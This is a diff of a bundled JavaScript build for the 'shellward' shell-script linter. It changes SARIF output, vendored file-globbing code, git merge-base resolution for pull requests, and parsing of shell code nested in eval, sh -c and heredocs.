-  return SEVERITY_RANK[a2.d.severity] - SEVERITY_RANK[b.d.severity] || (a2.file < b.file ? -1 : a2.file > b.file ? 1 : 0) || a2.d.range.start.line - b.d.range.start.line || a2.d.range.start.column - b.d.range.start.column || a2.index - b.index;
-}
-function keepMostSevere(entries, max) {
-  if (entries.length <= max) return entries;
-  const kept = new Set([...entries].sort(compareEntries).slice(0, Math.max(0, max)).map((e) => e.index));
-  return entries.filter((e) => kept.has(e.index));
-}
-function automationId(category) {
-  if (category === void 0 || category.trim() === "") return void 0;
-  return category.endsWith("/") ? category : `${category}/`;
-}
-function buildSarif(input, options = {}) {
-  const ruleIndex = /* @__PURE__ */ new Map();
-  input.rules.forEach((r, i3) => {
-    if (!ruleIndex.has(r.id)) ruleIndex.set(r.id, i3);
-  });
-  const entries = [];
-  for (const r of input.results) for (const d of r.diagnostics) entries.push({ file: r.file, d, index: entries.length });
-  const max = options.maxResults ?? CODE_SCANNING_LIMITS.resultsPerRun;
-  const kept = keepMostSevere(entries, max);
-  const omitted = entries.length - kept.length;
-  const id = automationId(options.category);
-  const run3 = {
-    tool: {
-      driver: {
-        name: "shellward",
-        version: input.toolVersion,
-        semanticVersion: input.toolVersion,
-        informationUri: INFORMATION_URI,
-        rules: input.rules.map(sarifRule)
-      }
-    },
-    ...omitted > 0 ? {
-      invocations: [
-        {
-          executionSuccessful: true,
-          toolExecutionNotifications: [
-            {
-              level: "warning",
-              descriptor: { id: TRUNCATED_NOTIFICATION_ID },
-              message: {
-                text: `${omitted} of ${entries.length} results were left out to stay within ${max} results per run (code scanning's limit); the most severe were kept.`
-              }
-            }
-          ]
-        }
-      ]
-    } : {},
-    ...id !== void 0 ? { automationDetails: { id } } : {},
-    originalUriBaseIds: {
-      [SRCROOT]: { description: { text: "The root of the repository that was linted." } }
-    },
-    columnKind: "utf16CodeUnits",
-    results: kept.map((e) => sarifResult(e.file, e.d, ruleIndex))
-  };
-  return { $schema: SARIF_SCHEMA_URI, version: "2.1.0", runs: [run3] };
-}
-function formatSarif(input, options = {}) {
-  return JSON.stringify(buildSarif(input, options), null, 2) + "\n";
-}
-
 // src/report/index.ts
 function formatReport(format2, input, options) {
   switch (format2) {
@@ -56102,17 +63686,13 @@ function sortFileResults(results) {
   return [...results].sort((a2, b) => a2.file < b.file ? -1 : a2.file > b.file ? 1 : 0);
 }
 
-// src/runner.ts
-var import_picomatch3 = __toESM(require_picomatch2(), 1);
-import { open, readFile as readFile3, stat as stat4 } from "node:fs/promises";
-
 // src/sources/discover.ts
 import { stat as stat3 } from "node:fs/promises";
-import { isAbsolute as isAbsolute2, join as join2, relative as relative3, resolve as resolve5 } from "node:path";
+import { isAbsolute as isAbsolute3, join as join3, relative as relative3, resolve as resolve5 } from "node:path";
 
 // node_modules/tinyglobby/dist/index.mjs
-import { readdir, readdirSync, realpath, realpathSync, stat as stat2, statSync as statSync2 } from "fs";
-import { isAbsolute, posix as posix5, resolve as resolve4 } from "path";
+import { readdir, readdirSync, realpath, realpathSync, stat as stat2, statSync as statSync3 } from "fs";
+import { isAbsolute as isAbsolute2, posix as posix4, resolve as resolve4 } from "path";
 import { fileURLToPath as fileURLToPath3 } from "url";
 
 // node_modules/fdir/dist/index.mjs
@@ -56259,21 +63839,21 @@ function build$2(options, isSynchronous) {
   if (!options.resolveSymlinks || options.excludeSymlinks) return null;
   return isSynchronous ? resolveSymlinks : resolveSymlinksAsync;
 }
-function isRecursive(path6, resolved, state) {
-  if (state.options.useRealPaths) return isRecursiveUsingRealPaths(resolved, state);
+function isRecursive(path6, resolved2, state) {
+  if (state.options.useRealPaths) return isRecursiveUsingRealPaths(resolved2, state);
   let parent = dirname3(path6);
   let depth = 1;
   while (parent !== state.root && depth < 2) {
     const resolvedPath = state.symlinks.get(parent);
-    const isSameRoot = !!resolvedPath && (resolvedPath === resolved || resolvedPath.startsWith(resolved) || resolved.startsWith(resolvedPath));
+    const isSameRoot = !!resolvedPath && (resolvedPath === resolved2 || resolvedPath.startsWith(resolved2) || resolved2.startsWith(resolvedPath));
     if (isSameRoot) depth++;
     else parent = dirname3(parent);
   }
-  state.symlinks.set(path6, resolved);
+  state.symlinks.set(path6, resolved2);
   return depth > 1;
 }
-function isRecursiveUsingRealPaths(resolved, state) {
-  return state.visited.includes(resolved + state.options.pathSeparator);
+function isRecursiveUsingRealPaths(resolved2, state) {
+  return state.visited.includes(resolved2 + state.options.pathSeparator);
 }
 var onlyCountsSync = (state) => {
   return state.counts;
@@ -56321,8 +63901,8 @@ var walkAsync = (state, crawlPath, directoryPath, currentDepth, callback$1) => {
   const { fs: fs2 } = state;
   state.visited.push(crawlPath);
   state.counts.directories++;
-  fs2.readdir(crawlPath || ".", readdirOpts, (error2, entries = []) => {
-    callback$1(entries, directoryPath, currentDepth);
+  fs2.readdir(crawlPath || ".", readdirOpts, (error2, entries2 = []) => {
+    callback$1(entries2, directoryPath, currentDepth);
     state.queue.dequeue(state.options.suppressErrors ? null : error2, state);
   });
 };
@@ -56331,13 +63911,13 @@ var walkSync = (state, crawlPath, directoryPath, currentDepth, callback$1) => {
   if (currentDepth < 0) return;
   state.visited.push(crawlPath);
   state.counts.directories++;
-  let entries = [];
+  let entries2 = [];
   try {
-    entries = fs2.readdirSync(crawlPath || ".", readdirOpts);
+    entries2 = fs2.readdirSync(crawlPath || ".", readdirOpts);
   } catch (e) {
     if (!state.options.suppressErrors) throw e;
   }
-  callback$1(entries, directoryPath, currentDepth);
+  callback$1(entries2, directoryPath, currentDepth);
 };
 function build(isSynchronous) {
   return isSynchronous ? walkSync : walkAsync;
@@ -56431,12 +64011,12 @@ var Walker = class {
     this.walkDirectory(this.state, this.root, this.root, this.state.options.maxDepth, this.walk);
     return this.isSynchronous ? this.callbackInvoker(this.state, null) : null;
   }
-  walk = (entries, directoryPath, depth) => {
+  walk = (entries2, directoryPath, depth) => {
     const { paths, options: { filters, resolveSymlinks: resolveSymlinks$1, excludeSymlinks, exclude, maxFiles, signal, useRealPaths, pathSeparator }, controller } = this.state;
     if (controller.aborted || signal && signal.aborted || maxFiles && paths.length > maxFiles) return;
     const files = this.getArray(this.state.paths);
-    for (let i3 = 0; i3 < entries.length; ++i3) {
-      const entry = entries[i3];
+    for (let i3 = 0; i3 < entries2.length; ++i3) {
+      const entry = entries2[i3];
       if (entry.isFile() || entry.isSymbolicLink() && !resolveSymlinks$1 && !excludeSymlinks) {
         const filename = this.joinPath(entry.name, directoryPath);
         this.pushFile(filename, files, this.state.counts, filters);
@@ -56681,8 +64261,8 @@ function buildFormat(cwd, root, absolute) {
     };
     return (p, isDir) => isDir && p !== "." ? p.slice(0, -1) : p;
   }
-  if (absolute) return (p) => posix5.relative(cwd, p) || ".";
-  return (p) => posix5.relative(cwd, `${root}/${p}`) || ".";
+  if (absolute) return (p) => posix4.relative(cwd, p) || ".";
+  return (p) => posix4.relative(cwd, `${root}/${p}`) || ".";
 }
 function buildRelative(cwd, root) {
   if (root.startsWith(`${cwd}/`)) {
@@ -56690,7 +64270,7 @@ function buildRelative(cwd, root) {
     return (p) => `${prefix}/${p}`;
   }
   return (p) => {
-    const result = posix5.relative(cwd, `${root}/${p}`);
+    const result = posix4.relative(cwd, `${root}/${p}`);
     return p[p.length - 1] === "/" && result !== "" ? `${result}/` : result || ".";
   };
 }
@@ -56728,7 +64308,7 @@ function normalizePattern(pattern, opts, props, isIgnore) {
   if (pattern[pattern.length - 1] === "/") result = pattern.slice(0, -1);
   if (result[result.length - 1] !== "*" && opts.expandDirectories) result += "/**";
   const escapedCwd = escapePath(cwd);
-  result = isAbsolute(result.replace(ESCAPING_BACKSLASHES, "")) ? posix5.relative(escapedCwd, result) : posix5.normalize(result);
+  result = isAbsolute2(result.replace(ESCAPING_BACKSLASHES, "")) ? posix4.relative(escapedCwd, result) : posix4.normalize(result);
   const parentDir = (_PARENT_DIRECTORY$exe = PARENT_DIRECTORY.exec(result)) === null || _PARENT_DIRECTORY$exe === void 0 ? void 0 : _PARENT_DIRECTORY$exe[0];
   const parts2 = splitPattern(result);
   if (parentDir) {
@@ -56739,7 +64319,7 @@ function normalizePattern(pattern, opts, props, isIgnore) {
       result = result.slice(0, (n2 - i3 - 1) * 3) + result.slice((n2 - i3) * 3 + parts2[i3 + n2].length + 1) || ".";
       i3++;
     }
-    const potentialRoot = posix5.join(cwd, parentDir.slice(i3 * 3));
+    const potentialRoot = posix4.join(cwd, parentDir.slice(i3 * 3));
     if (potentialRoot[0] !== "." && props.root.length > potentialRoot.length) {
       props.root = ensureNonDriveRelativePath(potentialRoot);
       props.depthOffset = -n2 + i3;
@@ -56761,7 +64341,7 @@ function normalizePattern(pattern, opts, props, isIgnore) {
     }
     props.depthOffset = newCommonPath.length;
     props.commonPath = newCommonPath;
-    props.root = ensureNonDriveRelativePath(newCommonPath.length > 0 ? posix5.join(cwd, ...newCommonPath) : cwd);
+    props.root = ensureNonDriveRelativePath(newCommonPath.length > 0 ? posix4.join(cwd, ...newCommonPath) : cwd);
   }
   return result;
 }
@@ -56866,7 +64446,7 @@ function getOptions(options) {
     realpath: opts.fs.realpath || realpath,
     realpathSync: opts.fs.realpathSync || realpathSync,
     stat: opts.fs.stat || stat2,
-    statSync: opts.fs.statSync || statSync2
+    statSync: opts.fs.statSync || statSync3
   });
   if (opts.debug) log("globbing with options:", opts);
   return opts;
@@ -56880,8 +64460,8 @@ function getCrawler(globInput, inputOptions = {}) {
   return patterns.length > 0 ? buildCrawler(options, patterns) : [];
 }
 async function glob(globInput, options) {
-  const [crawler, relative5] = getCrawler(globInput, options);
-  return crawler ? formatPaths(await crawler.withPromise(), relative5) : [];
+  const [crawler, relative6] = getCrawler(globInput, options);
+  return crawler ? formatPaths(await crawler.withPromise(), relative6) : [];
 }
 
 // src/sources/discover.ts
@@ -56894,7 +64474,7 @@ async function gitFiles(dir) {
     maxBuffer: 256 * 1024 * 1024
   });
   if (r.exitCode !== 0 || r.failed) return void 0;
-  return String(r.stdout).split("\0").filter((f) => f !== "").map((f) => join2(dir, f));
+  return String(r.stdout).split("\0").filter((f) => f !== "").map((f) => join3(dir, f));
 }
 async function walk(dir) {
   const files = await glob("**/*", { cwd: dir, absolute: true, dot: true, onlyFiles: true, ignore: DEFAULT_IGNORE, followSymbolicLinks: false });
@@ -56908,7 +64488,7 @@ async function discover(args2, cwd) {
     if (!prev || explicit && !prev.explicit) seen.set(path6, { path: path6, explicit });
   };
   for (const arg of args2) {
-    const abs = isAbsolute2(arg) ? arg : resolve5(cwd, arg);
+    const abs = isAbsolute3(arg) ? arg : resolve5(cwd, arg);
     let info3;
     let statError;
     try {
@@ -56935,8 +64515,943 @@ async function discover(args2, cwd) {
 }
 function displayPath(abs, cwd) {
   const rel = relative3(cwd, abs);
-  if (rel === "" || rel.startsWith("..") || isAbsolute2(rel)) return abs.split("\\").join("/");
+  if (rel === "" || rel.startsWith("..") || isAbsolute3(rel)) return abs.split("\\").join("/");
   return rel.split("\\").join("/");
+}
+
+// action/base.ts
+var BaseUnavailable = class extends Error {
+  constructor(message4) {
+    super(message4);
+    this.name = "BaseUnavailable";
+  }
+};
+var GIT = ["-c", "core.quotepath=false", "-c", "protocol.version=2"];
+var FETCH_TIMEOUT_MS = 12e4;
+async function git2(cwd, args2, timeout) {
+  const r = await execa("git", [...GIT, ...args2], { cwd, reject: false, ...timeout ? { timeout } : {}, env: { GIT_TERMINAL_PROMPT: "0" } });
+  return { ok: r.exitCode === 0 && !r.failed, stdout: String(r.stdout ?? "").trim(), stderr: String(r.stderr ?? "").trim() || (r.failed ? r.shortMessage ?? "" : "") };
+}
+var short = (sha) => sha.slice(0, 7);
+function field(value, ...keys) {
+  let v = value;
+  for (const k of keys) {
+    if (typeof v !== "object" || v === null) return void 0;
+    v = v[k];
+  }
+  return v;
+}
+async function rawParents(cwd, sha) {
+  const r = await git2(cwd, ["cat-file", "commit", sha]);
+  if (!r.ok) return [];
+  const parents = [];
+  for (const line of r.stdout.split("\n")) {
+    if (line === "") break;
+    const m = /^parent ([0-9a-f]{40,64})$/.exec(line);
+    if (m) parents.push(m[1]);
+  }
+  return parents;
+}
+async function hasCommit(cwd, sha) {
+  return (await git2(cwd, ["cat-file", "-e", `${sha}^{commit}`])).ok;
+}
+async function resolveBase(options) {
+  const { cwd, eventBase: eventBase2 } = options;
+  const headR = await git2(cwd, ["rev-parse", "--verify", "--quiet", "HEAD^{commit}"]);
+  if (!headR.ok) throw new BaseUnavailable("HEAD is not a commit (not a git checkout?)");
+  const head = headR.stdout;
+  const remoteName = options.remote ?? "origin";
+  const remote = (await git2(cwd, ["remote", "get-url", remoteName])).ok ? remoteName : void 0;
+  const shallow = (await git2(cwd, ["rev-parse", "--is-shallow-repository"])).stdout === "true";
+  let fetches = 0;
+  const present = async (sha, what) => {
+    if (await hasCommit(cwd, sha)) return true;
+    if (!remote) return false;
+    fetches++;
+    options.log?.(`changed-only: fetching ${what} ${short(sha)} from ${remote} (git fetch --depth=1 ${remote} ${sha})`);
+    await git2(cwd, ["fetch", "--quiet", "--no-tags", "--no-recurse-submodules", "--depth=1", remote, sha], FETCH_TIMEOUT_MS);
+    return hasCommit(cwd, sha);
+  };
+  const isPullRequest = options.eventName === "pull_request" || options.eventName === "pull_request_target";
+  const parents = await rawParents(cwd, head);
+  const prHead = field(options.payload, "pull_request", "head", "sha");
+  if (isPullRequest && parents.length === 2 && (typeof prHead !== "string" || prHead === parents[1])) {
+    const first = parents[0];
+    if (!await present(first, "the merge commit's first parent")) {
+      throw new BaseUnavailable(
+        `HEAD ${short(head)} is the pull request's merge commit, but its first parent ${short(first)} (the base branch) is not in the clone${remote ? ` and could not be fetched from ${remote}` : ` and there is no remote ${remoteName} to fetch it from`}`
+      );
+    }
+    const stale = eventBase2.base === first ? `= ${eventBase2.source}` : `${eventBase2.source} ${short(eventBase2.base)} is older: the base branch moved`;
+    return {
+      base: first,
+      head,
+      description: `HEAD^1 ${short(first)} (the base branch the pull request was merged into; ${stale}) with HEAD ${short(head)} (the merge commit)`,
+      fetches
+    };
+  }
+  const b = eventBase2.base;
+  if (!await present(b, `${eventBase2.source}`)) {
+    throw new BaseUnavailable(`base ref ${JSON.stringify(b)} (${eventBase2.source}) does not resolve to a commit${remote ? ` and could not be fetched from ${remote}` : ""}`);
+  }
+  const steps = options.deepen ?? [50, 200, 1e3];
+  for (let i3 = 0; ; i3++) {
+    const mb = await git2(cwd, ["merge-base", b, head]);
+    if (mb.ok && mb.stdout !== "") {
+      const via = mb.stdout === b ? `${eventBase2.source} ${short(b)}` : `the merge base ${short(mb.stdout)} of ${eventBase2.source} ${short(b)} and HEAD`;
+      return { base: mb.stdout, head, description: `${via} with HEAD ${short(head)}`, fetches };
+    }
+    const stillShallow = (await git2(cwd, ["rev-parse", "--is-shallow-repository"])).stdout === "true";
+    if (!shallow || !stillShallow || !remote || i3 >= steps.length) {
+      const tried = shallow && remote ? ` after deepening the shallow clone ${i3} time${i3 === 1 ? "" : "s"} (${steps.slice(0, i3).join(", ")} commits)` : shallow ? " (a shallow clone)" : "";
+      throw new BaseUnavailable(`no merge base of ${eventBase2.source} ${short(b)} and HEAD ${short(head)}${tried}`);
+    }
+    fetches++;
+    options.log?.(`changed-only: deepening the shallow clone by ${steps[i3]} commits to find the merge base (git fetch --deepen=${steps[i3]} ${remote} ${short(head)} ${short(b)})`);
+    await git2(cwd, ["fetch", "--quiet", "--no-tags", "--no-recurse-submodules", `--deepen=${steps[i3]}`, remote, head, b], FETCH_TIMEOUT_MS);
+  }
+}
+
+// src/project.ts
+import { relative as relative4, sep as sep3 } from "node:path";
+
+// src/core/positions.ts
+var LineIndex = class {
+  starts;
+  length;
+  /** Builds the index of `text` in one linear pass. */
+  constructor(text) {
+    const starts = [0];
+    let i3 = text.indexOf("\n");
+    while (i3 !== -1) {
+      starts.push(i3 + 1);
+      i3 = text.indexOf("\n", i3 + 1);
+    }
+    this.starts = starts;
+    this.length = text.length;
+  }
+  /** Number of lines (a trailing newline starts an empty last line). */
+  get lineCount() {
+    return this.starts.length;
+  }
+  /** Offset of the first character of 1-based `line`; clamps to the text. */
+  lineStart(line) {
+    const i3 = Math.min(Math.max(line, 1), this.starts.length) - 1;
+    return this.starts[i3] ?? 0;
+  }
+  /** 1-based line and column of a 0-based UTF-16 offset; offsets outside the text are clamped. */
+  position(offset) {
+    const off = Math.min(Math.max(offset, 0), this.length);
+    let lo = 0;
+    let hi = this.starts.length - 1;
+    while (lo < hi) {
+      const mid = lo + hi + 1 >> 1;
+      if ((this.starts[mid] ?? 0) <= off) lo = mid;
+      else hi = mid - 1;
+    }
+    return { line: lo + 1, column: off - (this.starts[lo] ?? 0) + 1 };
+  }
+};
+function spanToRange(span, map, index) {
+  const hostStart = map.toHost(span.start);
+  let hostEnd = span.end > span.start ? map.toHost(span.end - 1) + 1 : hostStart + 1;
+  if (hostEnd < hostStart) hostEnd = hostStart + 1;
+  return { start: index.position(hostStart), end: index.position(hostEnd) };
+}
+
+// src/core/fingerprint.ts
+import { createHash } from "node:crypto";
+function lineHash(ruleId, lineText) {
+  const norm = lineText.replace(/\s+/g, " ").trim();
+  return createHash("sha256").update(ruleId).update("\0").update(norm).digest("hex").slice(0, 16);
+}
+function numberFingerprints(hashes) {
+  const seen = /* @__PURE__ */ new Map();
+  return hashes.map((h2) => {
+    const n2 = (seen.get(h2) ?? 0) + 1;
+    seen.set(h2, n2);
+    return `${h2}:${n2}`;
+  });
+}
+
+// src/parse/embedded.ts
+var SHELLS2 = /* @__PURE__ */ new Set(["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox"]);
+var SHELL_VALUE_OPTIONS = /* @__PURE__ */ new Set(["-o", "+o", "-O", "+O", "--rcfile", "--init-file"]);
+function wordCode(w, source) {
+  if (w.value === void 0) return void 0;
+  const inner = w.raw.length >= 2 && (w.raw[0] === "'" || w.raw[0] === '"') && w.raw.endsWith(w.raw[0]) ? 1 : 0;
+  const base = w.span.start + inner;
+  const exact = source.slice(base, base + w.value.length) === w.value;
+  return { text: w.value, base, exact };
+}
+function shellInvocation(args2) {
+  let sawC = false;
+  for (let i3 = 0; i3 < args2.length; i3++) {
+    const v = args2[i3].value;
+    if (v === void 0) return void 0;
+    if (sawC) return { kind: "string", word: args2[i3] };
+    if (v === "--" || v === "-") return { kind: "stdin" };
+    if (SHELL_VALUE_OPTIONS.has(v)) {
+      i3++;
+      continue;
+    }
+    if (/^[-+][A-Za-z]+$/.test(v)) {
+      if (v.startsWith("-") && v.includes("c")) sawC = true;
+      if (v.startsWith("-") && v.includes("s")) return { kind: "stdin" };
+      continue;
+    }
+    if (v.startsWith("--")) continue;
+    return void 0;
+  }
+  return sawC ? void 0 : { kind: "stdin" };
+}
+function embeddedCode(cmd, source) {
+  const resolved2 = resolveCommand(cmd);
+  if (!resolved2) return [];
+  const out2 = [];
+  if (resolved2.name === "eval") {
+    const words = resolved2.args;
+    if (words.length === 0 || words.some((w) => w.value === void 0)) return [];
+    const first = words[0];
+    const last = words[words.length - 1];
+    const span = { start: first.span.start, end: last.span.end };
+    if (words.length === 1) {
+      const c3 = wordCode(first, source);
+      out2.push({ ...c3, span, via: "eval" });
+    } else {
+      out2.push({ text: words.map((w) => w.value).join(" "), base: span.start, exact: false, span, via: "eval" });
+    }
+    return out2;
+  }
+  let name2 = resolved2.name;
+  let args2 = resolved2.args;
+  if (name2 === "busybox") {
+    const applet = args2[0]?.value;
+    if (applet === void 0 || !SHELLS2.has(commandBasename(applet))) return [];
+    name2 = commandBasename(applet);
+    args2 = args2.slice(1);
+  }
+  if (!SHELLS2.has(name2)) return [];
+  const inv = shellInvocation(args2);
+  if (!inv) return [];
+  if (inv.kind === "string") {
+    const c3 = wordCode(inv.word, source);
+    if (c3) out2.push({ ...c3, span: inv.word.span, via: "sh -c" });
+    return out2;
+  }
+  for (const r of cmd.redirects) {
+    if (r.heredoc && (r.fd === void 0 || r.fd === "0")) {
+      out2.push({ text: r.heredoc.body, base: r.heredoc.bodySpan.start, exact: true, span: r.heredoc.bodySpan, via: "heredoc" });
+    } else if (r.operator === "<<<" && r.target) {
+      const c3 = wordCode(r.target, source);
+      if (c3) out2.push({ ...c3, span: r.target.span, via: "here-string" });
+    }
+  }
+  return out2;
+}
+var EMBEDDED_LIMITS = {
+  /** Nesting depth: `sh -c "bash -c '…'"` is depth 2. */
+  maxDepth: 4,
+  /** Total characters of embedded code parsed per unit (a unit's own text bounds `sh -c`, but not `eval` joins). */
+  maxChars: 1e6
+};
+function shiftWord(w, map) {
+  return { ...w, span: map(w.span) };
+}
+function shiftCommand(c3, map, statement) {
+  return {
+    span: map(c3.span),
+    name: c3.name ? shiftWord(c3.name, map) : void 0,
+    args: c3.args.map((w) => shiftWord(w, map)),
+    assignments: c3.assignments.map((a2) => ({ ...a2, span: map(a2.span), value: a2.value ? shiftWord(a2.value, map) : void 0 })),
+    redirects: c3.redirects.map((r) => ({
+      ...r,
+      span: map(r.span),
+      target: r.target ? shiftWord(r.target, map) : void 0,
+      heredoc: r.heredoc ? { ...r.heredoc, bodySpan: map(r.heredoc.bodySpan) } : void 0
+    })),
+    statement,
+    embedded: true
+  };
+}
+function withEmbedded(parsed, source, parse) {
+  const extra = [];
+  let budget = EMBEDDED_LIMITS.maxChars;
+  const queue = parsed.commands.map((cmd) => ({
+    cmd,
+    depth: 0,
+    map: (s) => s,
+    source,
+    statement: cmd.statement
+  }));
+  for (let next = 0; next < queue.length; next++) {
+    const { cmd, depth, map, source: src, statement } = queue[next];
+    if (depth >= EMBEDDED_LIMITS.maxDepth) continue;
+    for (const code of embeddedCode(cmd, src)) {
+      if (code.text.length > budget) return { ...parsed, commands: [...parsed.commands, ...extra] };
+      budget -= code.text.length;
+      const inner = parse(code.text);
+      if (!inner) continue;
+      const outer = map(code.span);
+      const innerMap = code.exact ? (s) => map({ start: code.base + s.start, end: code.base + s.end }) : () => outer;
+      for (const c3 of inner.commands) {
+        extra.push(shiftCommand(c3, innerMap, statement));
+        queue.push({ cmd: c3, depth: depth + 1, map: innerMap, source: code.text, statement });
+      }
+    }
+  }
+  return extra.length === 0 ? parsed : { ...parsed, commands: [...parsed.commands, ...extra] };
+}
+
+// src/parse/nodes.ts
+var WORD_TYPES = /* @__PURE__ */ new Set([
+  "word",
+  "string",
+  "raw_string",
+  "ansi_c_string",
+  "translated_string",
+  "concatenation",
+  "simple_expansion",
+  "expansion",
+  "command_substitution",
+  "process_substitution",
+  "arithmetic_expansion",
+  "number",
+  "brace_expression"
+]);
+function spanOf(node) {
+  return { start: node.startIndex, end: node.endIndex };
+}
+function toAssignment(node) {
+  const name2 = node.childForFieldName("name")?.text ?? "";
+  const value = node.childForFieldName("value");
+  return { name: name2, value: value ? toWord(value) : void 0, span: spanOf(node) };
+}
+function toHeredoc(node) {
+  let start2;
+  let body2;
+  let stripTabs = false;
+  for (const c3 of node.children) {
+    if (!c3) continue;
+    if (c3.type === "heredoc_start") start2 = c3;
+    else if (c3.type === "heredoc_body") body2 = c3;
+    else if (c3.type === "<<-") stripTabs = true;
+  }
+  if (!start2) return void 0;
+  const raw = start2.text;
+  const quoted = /['"\\]/.test(raw);
+  const delimiter = raw.replace(/['"\\]/g, "");
+  const bodySpan = body2 ? spanOf(body2) : { start: start2.endIndex, end: start2.endIndex };
+  return { delimiter, quoted, stripTabs, body: body2?.text ?? "", bodySpan };
+}
+function toRedirect(node) {
+  let operator = "";
+  let fd;
+  const targets = [];
+  for (const c3 of node.children) {
+    if (!c3) continue;
+    if (c3.type === "file_descriptor") fd = c3.text;
+    else if (!c3.isNamed && operator === "") operator = c3.text;
+    else if (WORD_TYPES.has(c3.type)) targets.push(toWord(c3));
+  }
+  const heredoc = node.type === "heredoc_redirect" ? toHeredoc(node) : void 0;
+  if (heredoc) operator = heredoc.stripTabs ? "<<-" : "<<";
+  const [target, ...extraArgs] = targets;
+  return { redirect: { span: spanOf(node), operator, fd, target: heredoc ? void 0 : target, heredoc }, extraArgs };
+}
+function isRedirectNode(type) {
+  return type === "file_redirect" || type === "heredoc_redirect" || type === "herestring_redirect";
+}
+function toSimpleCommand(node, statement, redirectedParent) {
+  let name2;
+  const args2 = [];
+  const assignments = [];
+  const redirects = [];
+  const count2 = node.childCount;
+  for (let i3 = 0; i3 < count2; i3++) {
+    const c3 = node.child(i3);
+    if (!c3 || !c3.isNamed) continue;
+    const field3 = node.fieldNameForChild(i3);
+    if (c3.type === "variable_assignment") assignments.push(toAssignment(c3));
+    else if (isRedirectNode(c3.type)) {
+      const r = toRedirect(c3);
+      redirects.push(r.redirect);
+      args2.push(...r.extraArgs);
+    } else if (c3.type === "command_name") {
+      const inner = c3.namedChild(0);
+      name2 = toWord(inner ?? c3);
+    } else if (field3 === "argument" || WORD_TYPES.has(c3.type)) args2.push(toWord(c3));
+  }
+  if (redirectedParent) {
+    for (const c3 of redirectedParent.namedChildren) {
+      if (!c3 || !isRedirectNode(c3.type)) continue;
+      const r = toRedirect(c3);
+      redirects.push(r.redirect);
+      args2.push(...r.extraArgs);
+    }
+  }
+  args2.sort((a2, b) => a2.span.start - b.span.start);
+  return { span: spanOf(node), name: name2, args: args2, assignments, redirects, statement };
+}
+function errorAnchor(node) {
+  const cursor = node.walk();
+  const errorAt = [true];
+  let depth = 0;
+  try {
+    if (!cursor.gotoFirstChild()) return spanOf(node);
+    depth = 1;
+    for (; ; ) {
+      const isError = cursor.nodeType === "ERROR";
+      if (isError || cursor.nodeIsMissing || !cursor.nodeIsNamed && errorAt[depth - 1]) {
+        return { start: cursor.startIndex, end: cursor.endIndex };
+      }
+      errorAt[depth] = isError;
+      if (cursor.gotoFirstChild()) {
+        depth++;
+        continue;
+      }
+      while (!cursor.gotoNextSibling()) {
+        if (depth <= 1 || !cursor.gotoParent()) return spanOf(node);
+        depth--;
+      }
+    }
+  } finally {
+    cursor.delete();
+  }
+}
+function buildViews(tree, text) {
+  const statements = [];
+  const commands = [];
+  const problems = [];
+  const comments = [];
+  let nodeCount = 0;
+  const cursor = tree.walk();
+  let depth = 0;
+  let statement = -1;
+  let errorEnd = -1;
+  const complexity = new ComplexityScanner(text);
+  const redirected = [];
+  try {
+    for (; ; ) {
+      nodeCount++;
+      const type = cursor.nodeType;
+      const isNamed = cursor.nodeIsNamed;
+      complexity.visit(cursor, type, isNamed, depth);
+      redirected[depth] = type === "redirected_statement" ? cursor.currentNode : void 0;
+      if (depth === 1 && isNamed && type !== "comment") {
+        statement++;
+        statements.push({ type, span: { start: cursor.startIndex, end: cursor.endIndex } });
+      }
+      if (type === "comment") {
+        comments.push({ start: cursor.startIndex, end: cursor.endIndex });
+      } else if (type === "ERROR") {
+        if (cursor.startIndex >= errorEnd) {
+          problems.push({ kind: "error", span: errorAnchor(cursor.currentNode), expected: void 0 });
+          errorEnd = cursor.endIndex;
+        }
+      } else if (cursor.nodeIsMissing) {
+        if (cursor.startIndex >= errorEnd) {
+          problems.push({ kind: "missing", span: { start: cursor.startIndex, end: cursor.endIndex }, expected: type });
+        }
+      } else if (type === "command") {
+        const parent = depth > 0 && cursor.currentFieldName === "body" ? redirected[depth - 1] : void 0;
+        commands.push(toSimpleCommand(cursor.currentNode, Math.max(statement, 0), parent));
+      }
+      if (cursor.gotoFirstChild()) {
+        depth++;
+        continue;
+      }
+      while (!cursor.gotoNextSibling()) {
+        if (!cursor.gotoParent()) return { text, statements, commands, problems, comments, nodeCount, complexity: complexity.finish(problems[0]) };
+        depth--;
+      }
+    }
+  } finally {
+    cursor.delete();
+  }
+}
+
+// src/lint.ts
+import { homedir as homedir3 } from "node:os";
+import { posix as posix5 } from "node:path";
+function recordedMode(unit) {
+  const m = unit.context?.permissionMode;
+  return m === "default" || m === "acceptEdits" ? m : void 0;
+}
+function pathContextFor(unit, policy, host) {
+  const cwd = unit.context?.cwd;
+  if (cwd === void 0) return void 0;
+  if (!cwd.startsWith("/")) return { cwd: void 0, workingDirectories: [], host };
+  const dirs = [posix5.resolve(cwd)];
+  for (const d of policy.additionalDirectories) {
+    const p = d.path === "~" ? host.home : d.path.startsWith("~/") ? posix5.join(host.home, d.path.slice(2)) : d.path;
+    const abs = posix5.resolve(cwd, p);
+    if (!dirs.includes(abs)) dirs.push(abs);
+  }
+  return { cwd: posix5.resolve(cwd), workingDirectories: dirs, host };
+}
+var Linter = class _Linter {
+  constructor(parser, options) {
+    this.parser = parser;
+    this.options = options;
+  }
+  parser;
+  options;
+  indexByText = /* @__PURE__ */ new Map();
+  /** Loads the parser (once per process) and returns a linter. Rejects if the wasm cannot load. */
+  static async create(options = {}) {
+    return new _Linter(await initParser(options.parser), { ...options, pathHost: options.pathHost ?? { home: homedir3() } });
+  }
+  /** Effective severity of `ruleId` for `unit`, or `undefined` when the rule is off. */
+  severityFor(ruleId, unit, requested) {
+    const override = this.options.severity?.[ruleId];
+    const level = override ?? requested ?? ruleMeta(ruleId)?.severity[unit.profile] ?? "warning";
+    return level === "off" ? void 0 : level;
+  }
+  lineIndex(hostText) {
+    let idx = this.indexByText.get(hostText);
+    if (!idx) {
+      idx = new LineIndex(hostText);
+      this.indexByText.clear();
+      this.indexByText.set(hostText, idx);
+    }
+    return idx;
+  }
+  /**
+   * Analyses one unit and returns its diagnostics in host-file coordinates, in no particular
+   * order and without fingerprints (see {@link finishFile}). Never throws: a failing check
+   * becomes an `internal-error` diagnostic and the other checks still run.
+   */
+  lintUnit(unit, policy) {
+    return this.analyse(unit, policy).diagnostics;
+  }
+  /** The policy of this linter (its options', or the empty policy). */
+  get policy() {
+    return this.options.policy ?? EMPTY_POLICY;
+  }
+  active = /* @__PURE__ */ new Map();
+  /**
+   * The checks with at least one rule that is not `off` for `profile` (after the configured
